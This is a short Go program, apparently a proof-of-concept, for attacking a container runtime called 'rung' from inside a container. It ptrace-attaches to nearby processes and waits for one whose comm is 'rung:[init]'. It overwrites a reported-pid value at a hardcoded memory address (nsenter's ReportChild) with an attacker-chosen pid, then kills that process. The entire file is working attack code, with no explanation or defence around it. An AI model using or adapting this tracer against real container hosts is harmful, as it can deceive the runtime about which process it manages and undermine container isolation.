// Command tracer attacks an exec from within a container that may trace: it catches
// the process on its way, writes into the page that this shares with rung that the
// process has another pid, and kills it.
//
//	tracer PID
package main

import (
	"encoding/binary"
	"fmt"
	"os"
	"runtime"
	"strconv"
	"syscall"
)

// Where the pid stands: package nsenter, ReportChild.
const reportedPid = 0x410010

func main() {
	runtime.LockOSThread()
	pid, err := strconv.ParseUint(os.Args[1], 10, 32)
	if err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	fmt.Println("ready")
	for last := os.Getpid(); ; {
		for p := last + 1; p < last+20; p++ {
			if syscall.PtraceAttach(p) == nil {
				attack(p, uint32(pid))
				last = p
				break
			}
		}
	}
}

// attack takes a process that executes the image.
func attack(p int, pid uint32) {
	defer func() {
		syscall.PtraceDetach(p)
		syscall.Kill(p, syscall.SIGCONT) // it may have stopped for another reason first
	}()
	for {
		if _, err := syscall.Wait4(p, nil, syscall.WALL, nil); err == nil {
			break
		} else if err != syscall.EINTR {
			return
		}
	}
	var word [4]byte
	binary.NativeEndian.PutUint32(word[:], pid)
	comm, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", p))
	if string(comm) != "rung:[init]\n" {
		return
	}
	if _, err := syscall.PtracePokeData(p, reportedPid, word[:]); err != nil {
		fmt.Println("poking:", err)
		return
	}
	syscall.Kill(p, syscall.SIGKILL)
	fmt.Println("attacked", p)
}
